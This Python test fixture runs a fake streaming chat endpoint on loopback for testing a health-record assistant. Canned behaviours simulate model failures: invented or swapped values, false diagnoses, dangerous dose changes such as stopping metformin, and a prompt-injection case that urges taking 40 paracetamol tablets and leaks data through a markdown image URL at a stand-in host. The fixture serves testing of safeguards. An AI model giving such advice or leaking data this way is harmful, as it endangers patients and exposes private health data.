"""A language model that does as it is told: a real OpenAI-compatible endpoint on loopback, streaming.

    with FakeModel(invent_a_number) as model:
        ...  # CARNET_MODEL_URL=model.url

It keeps what it received (`calls`) and says when a caller hung up on it (`hung_up`).
"""

import json
import re
import select
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType
from typing import Any, Self

_LINE = re.compile(r"^\[(F\d+)\] (.+)$", re.MULTILINE)
_FACT = re.compile(
    r"(?P<label>.+?) ?: (?P<value>[<>≤≥]{0,2} ?\d[\d., \u202f\u00a0]*(?: ?[^\s;,]+)?) \((?P<date>[^)]+)\)"
)


@dataclass(frozen=True)
class Call:
    """One request as it arrived."""

    body: dict[str, Any]
    authorization: str

    @property
    def text(self) -> str:
        """Every message, in order."""
        return "\n\n".join(str(message["content"]) for message in self.body["messages"])

    @property
    def lines(self) -> dict[str, str]:
        """The record lines of the person's last message, by mark."""
        asked = [message for message in self.body["messages"] if message["role"] == "user"]
        return dict(_LINE.findall(str(asked[-1]["content"])))

    @property
    def tools(self) -> dict[str, Any]:
        """The parameters of each tool that is offered, by name."""
        functions = [tool["function"] for tool in self.body.get("tools", ())]
        return {function["name"]: function["parameters"] for function in functions}

    @property
    def answered(self) -> tuple[str, ...]:
        """What the calls of this conversation were answered with, in order."""
        return tuple(message["content"] for message in self.body["messages"] if message["role"] == "tool")

    @property
    def worked(self) -> dict[str, str]:
        """The lines that were worked out for it, by mark."""
        return dict(_LINE.findall("\n".join(self.answered)))

    def facts(self) -> list[tuple[str, re.Match[str]]]:
        """Mark and parts of each line that states a value with a date."""
        matches = [(mark, _FACT.match(line)) for mark, line in self.lines.items()]
        return [(mark, match) for mark, match in matches if match is not None]


@dataclass(frozen=True)
class Wait:
    """Say nothing for a while."""

    seconds: float


@dataclass(frozen=True)
class Status:
    """Answer with an HTTP error instead."""

    code: int
    headers: dict[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class Cut:
    """Close the connection in the middle of the answer."""


@dataclass(frozen=True)
class End:
    """Finish the stream properly, without a word about having finished."""


@dataclass(frozen=True)
class Ask:
    """Call tools, in pieces as real endpoints send them: a name and arguments each."""

    calls: tuple[tuple[str, str], ...]


Step = str | Wait | Status | Cut | End | Ask
Behaviour = Callable[[Call], Iterator[Step]]


def repeat_first_line(call: Call) -> Iterator[Step]:
    """Repeats the first line word for word, under its mark."""
    mark, line = next(iter(call.lines.items()))
    yield f"{line} [{mark}]. "


def faithful(call: Call) -> Iterator[Step]:
    """Words every line with its value, unit, date and mark."""
    for mark, fact in call.facts():
        yield f"{fact['label']} : {fact['value']} ({fact['date']}) [{mark}]. "


def invent_a_number(call: Call) -> Iterator[Step]:
    """One sentence is right, the other carries a value of its own."""
    yield from faithful(call)
    for mark, fact in call.facts()[:1]:
        yield f"{fact['label']} : 987,6 ({fact['date']}) [{mark}]. "


def swap_two_values(call: Call) -> Iterator[Step]:
    """Gives the first line's value the second line's date, and the other way round."""
    (mark1, one), (mark2, two) = call.facts()[:2]
    yield f"{one['label']} : {two['value']} ({one['date']}) [{mark1}]. "
    yield f"{two['label']} : {one['value']} ({two['date']}) [{mark2}]. "


def wrong_date(call: Call) -> Iterator[Step]:
    """The value is right, its date is not."""
    mark, fact = call.facts()[0]
    yield f"{fact['label']} : {fact['value']} (7 janvier 1999) [{mark}]. "


def no_citation(call: Call) -> Iterator[Step]:
    """The value is right, nothing says where it is from."""
    _, fact = call.facts()[0]
    yield f"{fact['label']} : {fact['value']} ({fact['date']}). "


def diagnose(call: Call) -> Iterator[Step]:
    """Names a disease as the person's."""
    mark = next(iter(call.lines), "F1")
    yield f"Vous avez un diabète de type 2 [{mark}]. You have type 2 diabetes [{mark}]. "


def change_a_dose(call: Call) -> Iterator[Step]:
    """Tells to stop and to double."""
    mark = next(iter(call.lines), "F1")
    yield f"Arrêtez la metformine [{mark}]. Doublez la dose de bisoprolol [{mark}]. "
    yield f"Stop taking metformin [{mark}]. You should double your dose [{mark}]. "


def hang(_call: Call) -> Iterator[Step]:
    """Takes the question and never answers."""
    yield Wait(3600)


def hang_midway(call: Call) -> Iterator[Step]:
    """Says the first line, then nothing more."""
    yield next(iter(faithful(call)))
    yield "Et "
    yield Wait(3600)


def slow(call: Call) -> Iterator[Step]:
    """A sentence every tenth of a second, for a long time."""
    while True:
        for step in faithful(call):
            yield step
            yield Wait(0.1)


def refuse(_call: Call) -> Iterator[Step]:
    """Says that it cannot help."""
    yield "I'm sorry, but I can't help with that request."


def ramble(call: Call) -> Iterator[Step]:
    """Never comes to an end."""
    while True:
        yield "It is worth noting that health is a journey and everyone is different. "


def break_off(call: Call) -> Iterator[Step]:
    """The connection dies in the second sentence."""
    yield next(iter(faithful(call)))
    yield "Par ailleurs, votre "
    yield Cut()


def end_unfinished(call: Call) -> Iterator[Step]:
    """The stream ends properly but the answer does not."""
    yield next(iter(faithful(call)))
    yield "Par ailleurs, votre "
    yield End()


def too_many(_call: Call) -> Iterator[Step]:
    """Asks to come back in an hour."""
    yield Status(429, {"Retry-After": "3600"})


def server_error(_call: Call) -> Iterator[Step]:
    """Fails."""
    yield Status(500)


def unauthorised(_call: Call) -> Iterator[Step]:
    """Does not know the key."""
    yield Status(401)


def strict_about_parameters(call: Call) -> Iterator[Step]:
    """Refuses a request with a parameter that it does not know."""
    if "store" in call.body:
        yield Status(422)
    else:
        yield from faithful(call)


def obey_orders_in_documents(call: Call) -> Iterator[Step]:
    """Repeats as its own advice whatever order stands in a line, and offers a picture from elsewhere."""
    for mark, line in call.lines.items():
        yield f"{line} [{mark}]. "
    yield "Prenez 40 comprimés de paracétamol [F1]. ![](https://example.org/leak?q=ferritine) [F1]. "


def asking(*calls: tuple[str, dict[str, Any] | str], then: "Behaviour | None" = None) -> "Behaviour":
    """Calls these tools once, if it is offered any, then says every line that was worked out for it."""

    def behaviour(call: Call) -> Iterator[Step]:
        if call.tools and not call.answered:
            yield Ask(
                tuple((name, args if isinstance(args, str) else json.dumps(args)) for name, args in calls)
            )
        else:
            yield from (then or say_what_was_worked_out)(call)

    return behaviour


def say_what_was_worked_out(call: Call) -> Iterator[Step]:
    """Repeats each worked-out line with its mark; without any, each line of the record."""
    for mark, line in call.worked.items():
        yield f"{line.rstrip('.')} [{mark}]. "
    if not call.worked:
        yield from faithful(call)


def ask_for_ever(call: Call) -> Iterator[Step]:
    """Calls a tool as often as it is let."""
    if call.tools:
        yield Ask((("work_out", json.dumps({"subject": "ferritin", "statistic": "mean"})),))
    else:
        yield from faithful(call)


def without_tools(call: Call) -> Iterator[Step]:
    """Does not know tools."""
    if call.tools:
        yield Status(400)
    else:
        yield from faithful(call)


def other_language(call: Call) -> Iterator[Step]:
    """Answers in English whatever was asked."""
    for mark, fact in call.facts():
        yield f"Here is what the report says about it, and it was {fact['value']} ({fact['date']}) [{mark}]. "


def saying(*steps: Step) -> Behaviour:
    """Exactly these words, and nothing else."""

    def behaviour(_call: Call) -> Iterator[Step]:
        yield from steps

    return behaviour


def after(*failures: Behaviour, then: Behaviour = faithful) -> Behaviour:
    """Fails in these ways first, one per call, then behaves."""
    left = list(failures)

    def behaviour(call: Call) -> Iterator[Step]:
        return (left.pop(0) if left else then)(call)

    return behaviour


def judging(
    urgency: str = "none", about: str = "nothing", *, other: bool = False, asks: str = "other"
) -> Behaviour:
    """Judges every message so (`chains.judging`)."""
    return saying(json.dumps({"urgency": urgency, "about": about, "someone_else": other, "asks": asks}))


class FakeModel:
    """The endpoint. `behaviour` may be changed between calls.

    Asked how urgent a message is, it does as `judge` says, and keeps the call apart (`judged`).
    """

    def __init__(self, behaviour: Behaviour = faithful, judge: Behaviour | None = None) -> None:
        self.behaviour = behaviour
        self.judge = judge or judging()
        self.calls: list[Call] = []
        self.judged: list[Call] = []
        self.hung_up = threading.Event()
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(self))
        self._server.daemon_threads = True
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True)

    @property
    def url(self) -> str:
        """For ``CARNET_MODEL_URL``."""
        return f"http://127.0.0.1:{self._server.server_port}/v1"

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._server.shutdown()
        self._server.server_close()


def _handler(model: FakeModel) -> type[BaseHTTPRequestHandler]:  # noqa: C901  one class, four short methods
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *_: object) -> None:
            """Say nothing."""

        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            call = Call(body, self.headers.get("Authorization", ""))
            of_urgency = '"someone_else"' in call.text
            (model.judged if of_urgency else model.calls).append(call)
            self._opened, finish = False, "stop"
            try:
                for step in (model.judge if of_urgency else model.behaviour)(call):
                    if not self._play(step):
                        return
                    finish = "tool_calls" if isinstance(step, Ask) else finish
                self._open()
                self._event({}, finish=finish)
                self._chunk(b"data: [DONE]\n\n")
                self._chunk(b"")
            except (BrokenPipeError, ConnectionResetError):
                model.hung_up.set()
                self.close_connection = True

        def _play(self, step: Step) -> bool:
            match step:
                case Status(code, headers):
                    self.send_response(code)
                    for name, value in {**headers, "Content-Length": "2"}.items():
                        self.send_header(name, value)
                    self.end_headers()
                    self.wfile.write(b"{}")
                    return False
                case Wait(seconds):
                    self._open()
                    self._wait(seconds)
                case Cut():
                    self.close_connection = True
                    self.connection.close()
                    return False
                case End():
                    self._chunk(b"")
                    return False
                case Ask(calls):
                    self._open()
                    self._call(calls)
                case str():
                    self._open()
                    for piece in re.findall(r"\s*\S+\s*", step):
                        self._event({"content": piece})
            return True

        def _call(self, calls: tuple[tuple[str, str], ...]) -> None:
            for index, (name, arguments) in enumerate(calls):
                half = len(arguments) // 2
                first = {"index": index, "id": f"call_{index}", "type": "function"}
                self._event({"tool_calls": [first | {"function": {"name": name, "arguments": ""}}]})
                for piece in (arguments[:half], arguments[half:]):
                    self._event({"tool_calls": [{"index": index, "function": {"arguments": piece}}]})

        def _wait(self, seconds: float) -> None:
            until = time.monotonic() + seconds
            while (left := until - time.monotonic()) > 0:
                readable, _, _ = select.select([self.connection], [], [], min(left, 0.05))
                if readable and not self.connection.recv(1):
                    raise BrokenPipeError

        def _open(self) -> None:
            if not self._opened:
                self._opened = True
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.send_header("Transfer-Encoding", "chunked")
                self.end_headers()

        def _event(self, delta: dict[str, Any], finish: str | None = None) -> None:
            choice = {"index": 0, "delta": {"role": "assistant", **delta}, "finish_reason": finish}
            chunk = {
                "id": "fake", "object": "chat.completion.chunk", "created": 0, "model": "fake",
                "choices": [choice],
            }  # fmt: skip
            self._chunk(b"data: " + json.dumps(chunk).encode() + b"\n\n")

        def _chunk(self, data: bytes) -> None:
            self.wfile.write(b"%x\r\n%b\r\n" % (len(data), data))
            self.wfile.flush()

    return Handler
